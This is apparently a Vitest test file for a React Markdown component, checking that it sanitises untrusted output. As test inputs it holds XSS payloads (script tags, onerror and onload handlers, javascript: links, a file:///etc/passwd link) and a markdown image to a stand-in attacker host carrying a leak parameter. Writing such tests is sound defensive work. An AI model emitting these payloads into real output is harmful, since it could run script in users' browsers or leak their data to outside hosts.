import { render, screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import Markdown from './Markdown'

const show = (text: string, live = false) => render(<Markdown text={text} live={live} />).container

describe('Markdown', () => {
  it('never loads an image from elsewhere', () => {
    const c = show('![secret](https://evil.example/x.png?leak=1)')
    expect(c.querySelector('img')).toBeNull()
    expect(c.textContent).toContain('https://evil.example/x.png?leak=1')
  })
  it('loads no image that hides elsewhere in HTML', () => {
    const c = show('<img src="https://evil.example/x.png" onerror="alert(1)">')
    expect(c.querySelector('img')).toBeNull()
    expect(c.innerHTML).not.toContain('onerror')
  })
  it.each(['<script>alert(1)</script>', '<iframe src="https://x"></iframe>', '<svg onload="x()">'])(
    'removes %s',
    (html) => {
      const c = show(`before ${html} after`)
      expect(c.querySelector('script, iframe, svg[onload]')).toBeNull()
    },
  )
  it('opens links in a new tab, telling nobody, and shows where they go', () => {
    show('[here](https://example.org/a)')
    const link = screen.getByRole('link')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noreferrer noopener')
    expect(link.textContent).toContain('https://example.org/a')
  })
  it.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd'])(
    'makes no link to %s',
    (href) => {
      const c = show(`[x](${href})`)
      expect(c.querySelector(`a[href="${href}"]`)).toBeNull()
    },
  )
  it('shows code with its language and a copy button', () => {
    const c = show('```go\nfunc main() {}\n```')
    expect(c.querySelector('pre')?.textContent).toBe('func main() {}')
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy()
    expect(c.textContent).toContain('go')
  })
  it('closes what is not finished while it streams', () => {
    expect(
      show('a **bold', true).querySelector('strong, [data-streamdown="strong"]')?.textContent,
    ).toBe('bold')
  })
})
